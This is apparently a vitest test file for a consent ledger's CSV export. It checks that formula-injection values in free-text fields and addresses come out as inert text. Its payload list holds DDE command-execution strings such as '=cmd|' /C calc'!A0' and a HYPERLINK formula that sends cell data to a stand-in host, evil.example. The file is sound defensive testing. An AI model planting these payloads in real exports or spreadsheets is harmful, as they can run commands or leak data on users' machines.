// threats.md row 80: what the ledger exports is opened in spreadsheets; no cell of it may run there.
import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";

import { createIndexer } from "../../src/consent/address-index.ts";
import type { RecordedConsentEvent } from "../../src/consent/event.ts";
import type { Ledger, ListedSuppression } from "../../src/consent/ledger.ts";
import { cleanCell } from "../../src/exchange/cell.ts";
import { exportConsents, exportSuppressions } from "../../src/exchange/export.ts";
import { grant } from "../support/consent-events.ts";
import { parseAddress } from "../../src/mail/address.ts";

const payloads = [
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  "'=1+1",
  '"=1+1',
  ' =HYPERLINK("https://evil.example/"&A1,"x")',
];

test.each(payloads)("row 80: %j leaves as text in every free cell", async (payload) => {
  const event: RecordedConsentEvent & { readonly address: string } = {
    ...grant(1),
    evidence: { method: payload, source: payload, wording: payload, more: { evidence: payload } },
    id: "1",
    recordedAt: new Date(0),
    auditSequence: 1,
    address: "=cmd@example.jp",
  };
  const listConsents: Ledger["listConsents"] = async () => ({ items: [event], next: null });
  const text = await join(exportConsents({ listConsents }, {}));
  const [, row = []] = parse(text, { relax_column_count: true }) as string[][];
  expect(row).toHaveLength(10);
  for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠|%]/u);
  expect(cleanCell(row[5] ?? "")).toBe(payload.trim());
});

test("row 80: a suppression's reason leaves as text", async () => {
  const address = parseAddress("=cmd@example.jp");
  if (address.kind === "bad") throw new Error(address.problem);
  const entry: ListedSuppression = {
    subject: createIndexer(Buffer.alloc(32, 1)).address(address.value),
    ofDomain: false,
    kind: "manual",
    scope: { kind: "all" },
    origin: "test",
    reason: "=1+1",
    createdAt: new Date(0),
    address: address.value.text,
  };
  const listSuppressions: Ledger["listSuppressions"] = async () => ({ items: [entry], next: null });
  const text = await join(exportSuppressions({ listSuppressions }));
  expect(text.split("\r\n")[1]).toBe(`"'=cmd@example.jp",manual,all,"'=1+1",`);
});

async function join(rows: AsyncIterable<string>): Promise<string> {
  let text = "";
  for await (const row of rows) text += row;
  return text;
}
